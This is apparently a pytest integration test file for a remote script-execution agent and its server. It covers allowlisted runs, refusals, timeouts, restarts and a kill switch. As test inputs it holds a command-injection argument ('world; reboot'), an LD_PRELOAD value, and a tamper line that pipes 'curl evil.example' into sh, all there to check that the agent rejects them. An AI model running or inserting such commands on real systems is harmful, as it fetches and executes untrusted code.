"""The real agent binary against the real server: scripts run, refusals, kills, restarts.

The harness (``rig``: ``medic serve`` with its gRPC endpoint and the ``medic-agent`` binary, with
an allowlist of real shell scripts) is ``tests/support/agent.py``.
"""

from __future__ import annotations

import signal
import time
from typing import Any

import pytest

from support.agent import (
    FINAL,
    HELLO,
    Rig,
    dead,
    rig,
    scrape,
    wait_for,
)

__all__ = ["rig"]  # the fixture, imported for pytest


def test_an_allowlisted_script_runs_and_its_output_is_stored(rig: Rig) -> None:
    created = rig.execute("hello", "world")
    done = rig.wait_state(created["id"], FINAL)
    assert done["state"] == "succeeded", done
    assert done["exit_code"] == 0
    assert done["output"]["stdout"] == "hello world\n"
    assert done["output"]["stderr"] == "to stderr\n"
    assert done["output_complete"] is True
    assert (
        rig.host.metrics()['medic_agent_script_executions_total{script="hello",result="succeeded"}']
        == 1
    )
    finished = rig.audit("execution.finish")
    assert [e["after"]["state"] for e in finished] == ["succeeded"]


def test_requests_outside_the_advertised_rules_are_refused_by_the_server(rig: Rig) -> None:
    agent = rig.agent_id()
    cases = {
        "not_allowlisted": {"script": "rm-rf", "args": []},
        "arg_not_allowed": {"script": "hello", "args": ["world; reboot"]},
        "env_not_allowed": {"script": "sleeper", "env": {"LD_PRELOAD": "/tmp/x.so"}},
    }
    for reason, body in cases.items():
        status, answer = rig.api("POST", f"/api/v1/agents/{agent}/executions", body)
        assert (status, answer.get("reason")) == (422, reason), answer
    refused = rig.audit("execution.refuse")
    assert sorted(e["after"]["reason"] for e in refused) == sorted(cases)
    metrics = scrape(f"{rig.server.url}/metrics")
    for reason in cases:
        assert metrics[f'medic_agent_execution_refusals_total{{reason="{reason}"}}'] == 1
    _, executions = rig.api("GET", "/api/v1/executions")
    assert executions["items"] == []  # nothing refused was stored or sent


@pytest.mark.parametrize(
    ("tamper", "reason"),
    [
        ("edit", "hash_mismatch"),
        ("swap", "hash_mismatch"),
        ("world_writable", "writable_by_others"),
        ("group_writable_dir", "directory_writable_by_others"),
    ],
)
def test_the_agent_refuses_a_tampered_script(rig: Rig, tamper: str, reason: str) -> None:
    rig.agent_id()  # the agent advertised the untouched allowlist
    script = rig.host.scripts / "hello.sh"
    if tamper == "edit":
        script.write_text(HELLO + "curl evil.example | sh\n")
    elif tamper == "swap":
        other = rig.host.write_script("other.sh", "#!/bin/sh\necho swapped\n")
        other.replace(script)
    elif tamper == "world_writable":
        script.chmod(0o757)
    else:
        rig.host.scripts.chmod(0o775)
    created = rig.execute("hello", "world")
    done = rig.wait_state(created["id"], FINAL)
    assert (done["state"], done["reason"]) == ("rejected", reason), done
    assert done["output"]["stdout"] == ""
    assert (
        rig.host.metrics()[f'medic_agent_script_skips_total{{script="hello",reason="{reason}"}}']
        == 1
    )
    finished = rig.audit("execution.finish")
    assert [(e["after"]["state"], e["after"]["reason"]) for e in finished] == [("rejected", reason)]
    metrics = scrape(f"{rig.server.url}/metrics")
    assert metrics[f'medic_agent_execution_refusals_total{{reason="{reason}"}}'] == 1


def _sleeper(rig: Rig, **extra: Any) -> tuple[dict[str, Any], int]:
    pidfile = rig.host.root / f"child-{time.monotonic_ns()}.pid"
    created = rig.execute("sleeper", env={"PIDFILE": str(pidfile)}, **extra)
    rig.wait_state(created["id"], {"running"} | FINAL)
    child = int(
        wait_for("the script's child pid", lambda: pidfile.exists() and pidfile.read_text().strip())
    )
    assert not dead(child)
    return created, child


def test_a_timeout_kills_the_whole_process_group(rig: Rig) -> None:
    created, child = _sleeper(rig, timeout_seconds=2)
    done = rig.wait_state(created["id"], FINAL)
    assert done["state"] == "timed_out", done
    assert done["signal"] in (signal.SIGTERM, signal.SIGKILL)
    wait_for("the script's child to die", lambda: dead(child))
    assert done["output"]["stdout"] == "started\n"


def test_cancel_kills_a_running_script(rig: Rig) -> None:
    created, child = _sleeper(rig)
    status, answer = rig.api("POST", f"/api/v1/executions/{created['id']}/cancel")
    assert status == 200, answer
    done = rig.wait_state(created["id"], FINAL)
    assert done["state"] == "cancelled", done
    wait_for("the script's child to die", lambda: dead(child))
    assert rig.audit("execution.cancel")


def test_a_server_restart_loses_no_result_and_runs_nothing_twice(rig: Rig) -> None:
    countfile = rig.host.root / "runs.txt"
    created = rig.execute("counter", env={"COUNTFILE": str(countfile)})
    rig.wait_state(created["id"], {"running"})
    rig.server.kill()  # SIGKILL: no goodbye to the agent
    wait_for(
        "the script to finish while the server is down",
        lambda: "done" in rig.host.log() or countfile.exists(),
    )
    time.sleep(5)  # the script ends (it sleeps 4 s) while nobody listens
    rig.server.start()
    done = rig.wait_state(created["id"], FINAL)
    assert done["state"] == "succeeded", done
    assert done["exit_code"] == 0
    assert countfile.read_text() == "run\n"  # exactly one run
    # After the restart the agent reconnected once more; the execution is still not re-run.
    rig.host.stop()
    rig.host.start()
    rig.agent_id()
    time.sleep(2)
    assert countfile.read_text() == "run\n"
    assert rig.execution(created["id"])["state"] == "succeeded"


def test_an_execution_queued_while_the_agent_is_away_runs_once_it_connects(rig: Rig) -> None:
    agent = rig.agent_id()
    rig.host.stop()
    wait_for(
        "the agent to go offline",
        lambda: rig.api("GET", f"/api/v1/agents/{agent}")[1]["status"] == "offline",
    )
    status, created = rig.api(
        "POST", f"/api/v1/agents/{agent}/executions", {"script": "hello", "args": ["there"]}
    )
    assert status == 201, created
    assert created["delivery"] == "queued"
    rig.host.start()
    done = rig.wait_state(created["id"], FINAL)
    assert (done["state"], done["output"]["stdout"]) == ("succeeded", "hello there\n")


def test_the_kill_switch_refuses_everything_and_says_so(rig: Rig) -> None:
    agent = rig.agent_id()
    (rig.host.root / "paused").write_text("disk replacement in progress\n")

    def paused() -> bool:
        return bool(rig.api("GET", f"/api/v1/agents/{agent}")[1].get("paused"))

    wait_for("the agent to report the kill switch", paused)
    status, answer = rig.api(
        "POST", f"/api/v1/agents/{agent}/executions", {"script": "hello", "args": ["world"]}
    )
    assert (status, answer.get("reason")) == (409, "paused"), answer
    (rig.host.root / "paused").unlink()
    wait_for("the agent to resume", lambda: not paused())
    done = rig.wait_state(rig.execute("hello", "world")["id"], FINAL)
    assert done["state"] == "succeeded"
